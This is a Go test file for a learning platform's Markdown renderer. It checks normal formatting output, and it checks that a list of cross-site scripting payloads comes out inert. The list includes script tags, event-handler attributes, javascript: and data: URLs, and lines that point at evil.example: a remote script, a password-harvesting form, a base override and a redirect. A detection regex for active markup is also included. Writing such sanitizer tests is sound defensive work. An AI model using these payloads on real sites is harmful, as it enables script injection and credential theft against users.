package lms

import (
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func TestMarkdownKeepsWhatTeaches(t *testing.T) {
	t.Parallel()
	r := newRenderer()
	for _, c := range []struct{ source, want string }{
		{"## Parts\n\nOne **bold** and *soft* word.", "<h2>Parts</h2>\n<p>One <strong>bold</strong> and <em>soft</em> word.</p>"},
		{"```go\nfunc main() {}\n```", `<pre><code class="language-go">func main() {}`},
		{"a `b < c` d", "<code>b &lt; c</code>"},
		{"| a | b |\n|:--|--:|\n| 1 | 2 |", `<td align="right">2</td>`},
		{"1. one\n2. two", "<ol>\n<li>one</li>"},
		{"> said", "<blockquote>"},
		{"~~old~~", "<del>old</del>"},
		{"![a diagram](/media/a.png)", `<img src="/media/a.png" alt="a diagram"`},
	} {
		got, err := r.html(c.source)
		if err != nil || !strings.Contains(got, c.want) {
			t.Errorf("%q became %q, %v; want %q", c.source, got, err, c.want)
		}
	}
	if got, _ := r.html("[us](https://example.com/)"); !strings.Contains(got, "noopener") || !strings.Contains(got, "noreferrer") || !strings.Contains(got, "nofollow") {
		t.Errorf("a link out: %s", got)
	}
}

// active is anything that could run, load a foreign frame, send a form, restyle the page or leave it.
var active = regexp.MustCompile(`(?i)<\s*(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|video|audio|template|noscript)|\son[a-z]+\s*=|\sstyle\s*=|(href|src)\s*=\s*"?\s*(javascript|vbscript|data):`)

// hostile is what people have put into lesson texts.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext></p><img src=x onerror=alert(1)></mtext></math>`,
	`<iframe src="https://www.youtube.com/embed/x"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<form action=https://evil.example><input name=password></form>`,
	`<style>*{display:none}</style>`,
	`<p style="position:fixed;inset:0">cover</p>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<a href="javascript:alert(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	"[x](java\tscript:alert(1))",
	`[x](&#106;avascript:alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](vbscript:msgbox(1))`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	`![x" onerror="alert(1)](x.png)`,
	`[x](/y "t\" onmouseover=\"alert(1)")`,
	"[x]: javascript:alert(1)\n\n[x]",
	`<javascript:alert(1)>`,
	"```\"onclick=\"alert(1)\nx\n```",
	"```go onclick=alert(1)\nx\n```",
	`<details open ontoggle=alert(1)>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	"<img src=x\nonerror=alert(1)>",
	`<a href="https://a.example" onclick="alert(1)">x</a>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"<x\x00script>alert(1)</script>",
}

func TestMarkdownIsNeutral(t *testing.T) {
	t.Parallel()
	r := newRenderer()
	for _, source := range hostile {
		got, err := r.html(source)
		if err != nil {
			t.Errorf("%q: %v", source, err)
		}
		if tag := inTags(got); active.MatchString(tag) {
			t.Errorf("%q became %q", source, got)
		}
	}
}

func TestMarkdownIsNeutralInAnyMixture(t *testing.T) {
	t.Parallel()
	r := newRenderer()
	pieces := append([]string{"\n\n", "> ", "- ", "`", "```\n", "<", ">", "\"", "[", "](", ")", "&lt;", "    ", "|", "\\"}, hostile...)
	rapid.Check(t, func(t *rapid.T) {
		source := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 12).Draw(t, "pieces"), "")
		got, err := r.html(source)
		if err != nil || active.MatchString(inTags(got)) {
			t.Fatalf("%q became %q, %v", source, got, err)
		}
	})
}

var tags = regexp.MustCompile(`<[^>]*>`)

// inTags keeps only the markup: what stands between tags is escaped text and may say what it likes.
func inTags(html string) string { return strings.Join(tags.FindAllString(html, -1), "") }
